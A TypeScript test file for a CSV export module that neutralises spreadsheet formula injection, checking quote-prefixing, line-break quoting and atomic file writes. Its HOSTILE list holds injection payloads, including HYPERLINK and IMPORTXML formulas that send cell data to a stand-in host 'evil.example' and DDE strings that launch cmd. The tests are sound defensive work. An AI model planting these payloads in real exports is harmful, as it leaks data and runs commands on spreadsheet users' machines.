import { mkdtempSync, readFileSync, existsSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { neutraliseCell, toSafeCsv, writeSafeCsv } from './csv-safe';

/** Payloads from OWASP's CSV injection page and common spreadsheet exploits. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
  '=cmd|"/c calc"!A1,',
];

describe('neutraliseCell', () => {
  it.each(HOSTILE)('prefixes a single quote to %j', (s) => {
    expect(neutraliseCell(s)).toBe(`'${s}`);
  });

  it.each(['ORCHID-1', 'a=b', 'user@example', '0800 000 000', "'already quoted", '', ' =padded'])('leaves %j alone', (s) => {
    expect(neutraliseCell(s)).toBe(s);
  });
});

describe('toSafeCsv', () => {
  it('writes hostile strings so that a spreadsheet reads them as text, and a CSV reader gets them back quote-prefixed', () => {
    const rows = HOSTILE.map((actor, i) => ({ id: i, actor, note: 'a, "quoted"\nline' }));
    const text = toSafeCsv(['id', 'actor', 'note'], rows);
    const parsed: string[][] = parse(text, { relax_column_count: false });
    expect(parsed[0]).toEqual(['id', 'actor', 'note']);
    expect(parsed.slice(1).map((r) => r[1])).toEqual(HOSTILE.map((s) => `'${s}`));
    expect(parsed.slice(1).every((r) => r[2] === 'a, "quoted"\nline')).toBe(true);
    // No line of the file starts a cell with a formula character.
    for (const r of parsed) for (const cell of r) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
  });

  it('quotes every cell holding a bare CR or LF, so no line of the file starts a row with a live formula', () => {
    // Neither cell has a comma or a quote: csv-stringify used to leave them bare, and a spreadsheet
    // read `=1+1` after the line break as the first cell of a new row.
    const text = toSafeCsv(['actor', 'entity_id'], [{ actor: 'ops\n=1+1', entity_id: 'x\r=2+2' }]);
    expect(text).toBe('actor,entity_id\r\n"ops\n=1+1","x\r=2+2"\r\n');
    expect(parse(text, { columns: true })).toEqual([{ actor: 'ops\n=1+1', entity_id: 'x\r=2+2' }]);
  });

  it('keeps numbers as numbers (a negative count is not a formula) and writes dates as UTC ISO', () => {
    const text = toSafeCsv(['n', 'at', 'ok'], [{ n: -3, at: new Date('2026-01-05T10:00:00Z'), ok: true }]);
    expect(text).toBe('n,at,ok\r\n-3,2026-01-05T10:00:00.000Z,true\r\n');
  });
});

describe('writeSafeCsv', () => {
  it('streams rows to the file and renames it only when complete', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'harbour-csv-'));
    const out = join(dir, 'x.csv');
    async function* rows() {
      for (let i = 0; i < 2500; i++) yield { i, s: i % 2 ? `=evil${i}` : `ok${i}` };
    }
    expect(await writeSafeCsv(out, ['i', 's'], rows())).toBe(2500);
    const parsed: string[][] = parse(readFileSync(out, 'utf8'));
    expect(parsed).toHaveLength(2501);
    expect(parsed[2]).toEqual(['1', "'=evil1"]);
    expect(existsSync(`${out}.partial`)).toBe(false);

    async function* failing() {
      yield { i: 1, s: 'a' };
      throw new Error('database went away');
    }
    const out2 = join(dir, 'y.csv');
    await expect(writeSafeCsv(out2, ['i', 's'], failing())).rejects.toThrow('database went away');
    expect(existsSync(out2)).toBe(false);
    expect(existsSync(`${out2}.partial`)).toBe(false);
  });
});
